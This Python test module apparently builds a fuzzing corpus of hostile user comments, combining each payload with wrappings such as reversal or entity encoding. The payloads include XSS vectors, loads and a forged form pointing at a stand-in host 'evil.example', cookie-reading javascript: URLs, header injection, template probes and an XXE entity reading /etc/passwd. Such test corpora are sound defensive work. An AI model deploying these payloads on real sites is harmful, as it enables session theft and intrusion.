"""Comments that try to be more than text, made by rule: each payload in each wrapping."""

from __future__ import annotations

from collections.abc import Callable

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=https://evil.example/x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "style": "<style>*{display:none!important}@import url(https://evil.example/x.css)</style>",
    "sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "form": "</form><form id=desk action=https://evil.example><input name=csrf_token><button id=approve>",
    "attribute": "\" autofocus onfocus=alert(1) x='",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "header": "x\r\nSet-Cookie: modqueue=evil\r\n\r\n<script>alert(1)</script>",
    "address": "javascript:alert(document.cookie)//",
    "data": "data:text/html,<script>alert(1)</script>",
    "bidi": "\u202egnirts\u202c \u2066desrever\u2067 \u200f\u061c\u200b\ufeff",
    "zalgo": "h" + "\u0300\u0301\u0316\u0489" * 60,
    "long": "unbroken" * 120,
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&nbsp;&",
    "comment": "--><!--<![CDATA[ ]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd\ufe0f 日本語 العربية עברית हिन्दी",
}
WRAPPINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda p: p,
    "upper": str.upper,
    "closed": lambda p: f"</div></article></main></body></html>{p}",
    "quoted": lambda p: f"\"'`>{p}",
    "unclosed": lambda p: f"<a href='x{p}",
    "nested": lambda p: f"<<b>{p}<</b>",
    "split": lambda p: "\n\t".join(p[n : n + 9] for n in range(0, len(p), 9)),
    "commented": lambda p: f"<!-- {p}",
    "raw": lambda p: f"<textarea><title><noscript>{p}",
    "spelt": lambda p: "".join(f"&#{ord(c)};" for c in p[:120]),
    "reversed": lambda p: f"\u202e{p[::-1]}\u202c",
}


def corpus() -> list[str]:
    """Return every payload in every wrapping."""
    return [wrap(payload) for payload in PAYLOADS.values() for wrap in WRAPPINGS.values()]
